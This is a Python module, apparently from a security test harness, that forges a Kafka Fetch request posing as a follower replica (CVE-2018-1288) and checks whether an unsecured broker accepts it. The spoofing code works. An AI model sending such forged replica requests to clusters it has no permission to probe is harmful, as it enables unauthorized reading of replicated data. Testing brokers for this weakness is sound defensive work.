"""A fetch request that claims to be a follower's: what an unsecured cluster must believe (CVE-2018-1288)."""

from __future__ import annotations

import socket
import struct

from harness.wire.declaration import Message
from harness.wire.frames import RequestHeader, decode_response, encode_request
from harness.wire.keys import ApiKey
from harness.wire.messages import (
    ApiVersionsRequest,
    ApiVersionsResponse,
    FetchPartition,
    FetchRequest,
    FetchResponse,
    FetchTopic,
)
from harness.workload import SpoofedFetchOrder

_NEWEST = 12
"""The first version that says the last fetched epoch, and one of the last that name the replica in plain sight."""
_MAX_BYTES = 1 << 20
_LENGTH = struct.Struct(">i")


def spoof_fetch(address: tuple[str, int], order: SpoofedFetchOrder) -> str | None:
    """Send the request to the broker at ``address`` and wait for the answer.

    Returns:
        What went wrong: an error code of the answer, or of the connection; None: the broker believed it.
    """
    try:
        with socket.create_connection(address, timeout=order.timeout_s) as connection:
            known = _exchange(connection, ApiVersionsRequest(), 0)
            assert isinstance(known, ApiVersionsResponse)
            last = next(one.max_version for one in known.api_keys if one.api_key == ApiKey.FETCH)
            answer = _exchange(connection, spoofed_request(order), min(last, _NEWEST))
    except (OSError, struct.error) as problem:
        return str(problem)
    assert isinstance(answer, FetchResponse)
    codes = [answer.error_code, *(part.error_code for topic in answer.responses for part in topic.partitions)]
    return next((f"error code {code}" for code in codes if code), None)


def _exchange(connection: socket.socket, body: Message, version: int) -> Message:
    header = RequestHeader(body.api_key, version, 1, "seawall-spoofed")
    frame = b"".join(encode_request(header, body))
    connection.sendall(_LENGTH.pack(len(frame)) + frame)
    with connection.makefile("rb") as stream:
        (size,) = _LENGTH.unpack(stream.read(_LENGTH.size))
        _, answer = decode_response(body.api_key, version, stream.read(size))
    return answer


def spoofed_request(order: SpoofedFetchOrder) -> FetchRequest:
    """What claims to be the follower's."""
    topics: dict[str, list[FetchPartition]] = {}
    for name in order.partitions:
        topics.setdefault(name.topic, []).append(
            FetchPartition(
                partition=name.partition,
                current_leader_epoch=order.leader_epoch,
                fetch_offset=order.offset,
                last_fetched_epoch=order.last_fetched_epoch,
                partition_max_bytes=_MAX_BYTES,
            )
        )
    return FetchRequest(
        replica_id=order.replica,
        topics=[FetchTopic(topic=topic, partitions=partitions) for topic, partitions in topics.items()],
    )
